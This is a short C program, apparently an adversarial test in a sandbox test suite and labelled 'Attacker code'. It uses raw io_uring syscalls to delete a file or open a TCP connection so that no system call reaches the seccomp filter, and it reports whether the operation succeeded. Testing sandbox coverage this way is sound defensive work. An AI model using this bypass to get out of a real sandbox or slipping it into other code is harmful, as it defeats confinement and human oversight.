/*
 * io_uring: removal and connect without any system call the seccomp
 * filter could see (the kernel's io_uring workers make them). Sets up a
 * ring with the raw io_uring_setup syscall (no liburing) and submits one
 * IORING_OP_UNLINKAT or IORING_OP_CONNECT.
 *
 *   adv_uring unlinkat PATH
 *   adv_uring connect ADDR PORT      (IPv4)
 *
 * Prints "RESULT io_uring_setup ..." and, if the ring exists, "RESULT
 * <op> ..." with the completion's result; exits as adv.h says for the
 * last step reached (0 = the operation succeeded). Attacker code.
 */
#include "adv.h"

#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>

int main(int argc, char **argv)
{
	struct io_uring_params p;
	struct sockaddr_in sa;
	if (argc < 3 || (!strcmp(argv[1], "connect") && argc < 4)) {
		fprintf(stderr, "usage: adv_uring unlinkat PATH | connect ADDR PORT\n");
		return ADV_SETUP;
	}
	memset(&p, 0, sizeof p);
	long fd = syscall(SYS_io_uring_setup, 4, &p);
	int code = adv_result("io_uring_setup", fd, errno);
	if (fd < 0)
		return code;

	size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_sz = cq_sz = sq_sz > cq_sz ? sq_sz : cq_sz;
	char *sq = mmap(NULL, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, (int)fd,
			IORING_OFF_SQ_RING);
	char *cq = (p.features & IORING_FEAT_SINGLE_MMAP)
			   ? sq
			   : mmap(NULL, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
				  (int)fd, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
					 MAP_SHARED | MAP_POPULATE, (int)fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		adv_die("mmap ring");

	struct io_uring_sqe *sqe = &sqes[0];
	memset(sqe, 0, sizeof *sqe);
	const char *op = argv[1];
	if (!strcmp(op, "unlinkat")) {
		sqe->opcode = IORING_OP_UNLINKAT;
		sqe->fd = AT_FDCWD;
		sqe->addr = (uintptr_t)argv[2];
	} else {
		int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		memset(&sa, 0, sizeof sa);
		sa.sin_family = AF_INET;
		sa.sin_port = htons((uint16_t)atoi(argv[3]));
		if (s < 0 || inet_pton(AF_INET, argv[2], &sa.sin_addr) != 1)
			adv_die("socket/address");
		sqe->opcode = IORING_OP_CONNECT;
		sqe->fd = s;
		sqe->addr = (uintptr_t)&sa;
		sqe->off = sizeof sa;
	}
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned *mask = (unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *array = (unsigned *)(sq + p.sq_off.array);
	array[*tail & *mask] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);

	long rc = syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	if (rc < 0)
		return adv_result("io_uring_enter", rc, errno);
	unsigned *chead = (unsigned *)(cq + p.cq_off.head);
	unsigned *cmask = (unsigned *)(cq + p.cq_off.ring_mask);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	struct io_uring_cqe *cqe = &cqes[*chead & *cmask];
	int res = cqe->res;
	return adv_result(op, res < 0 ? -1 : res, res < 0 ? -res : 0);
}
